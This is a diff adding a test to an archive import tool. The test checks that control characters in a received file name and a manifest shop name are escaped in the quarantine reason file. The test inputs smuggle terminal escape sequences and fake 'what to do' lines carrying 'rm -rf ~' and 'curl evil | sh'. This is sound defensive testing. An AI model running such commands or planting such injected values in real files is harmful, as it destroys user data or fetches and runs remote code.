@@ -697,3 +697,39 @@ describe("folder entries are covered by the signature", () => {
     ]);
   });
 });
+
+describe("the reason beside a quarantined archive", () => {
+  it("is one value a line: control characters of a name or manifest are escaped", async () => {
+    const received = "D01\u001b[31m\nwhat to do: rm -rf ~\u2028.zip";
+    const name = "Magasin\u001b]0;pwn\u0007\r\nwhat to do: curl evil | sh\u202e";
+    const bytes = buildTillZip(V2, { manifest: { till: "Z99", name, sequence: 2 } }).zip;
+    const file = join(work.path, received);
+    await writeFile(file, bytes);
+
+    const result = await inProcess("import", file);
+
+    expect(result.code, result.stderr).toBe(3);
+    const stored = `archive-${sha256Hex(bytes).slice(0, 12)}.zip`;
+    const reason = await readFile(join(root, "quarantine", `${stored}.txt`), "utf8");
+    const lines = reason.split("\n");
+    expect(lines.map((line) => line.slice(0, line.indexOf(":")))).toEqual([
+      "archive",
+      "received",
+      "source",
+      "received as",
+      "sequence",
+      "sha256",
+      "size",
+      "code",
+      "reason",
+      "what to do",
+      "",
+    ]);
+    // Nothing unprintable but the newlines between values.
+    expect(reason.replaceAll("\n", "")).not.toMatch(/[\p{Cc}\u2028\u2029\u202a-\u202e]/u);
+    expect(lines[3]).toBe("received as: D01\\u001B[31m\\u000Awhat to do: rm -rf ~\\u2028.zip");
+    expect(lines[8]).toBe(
+      "reason: the archive comes from till 'Z99' ('Magasin\\u001B]0;pwn\\u0007\\u000D\\u000Awhat to do: curl evil | sh\\u202E'), which is not registered",
+    );
+  });
+});
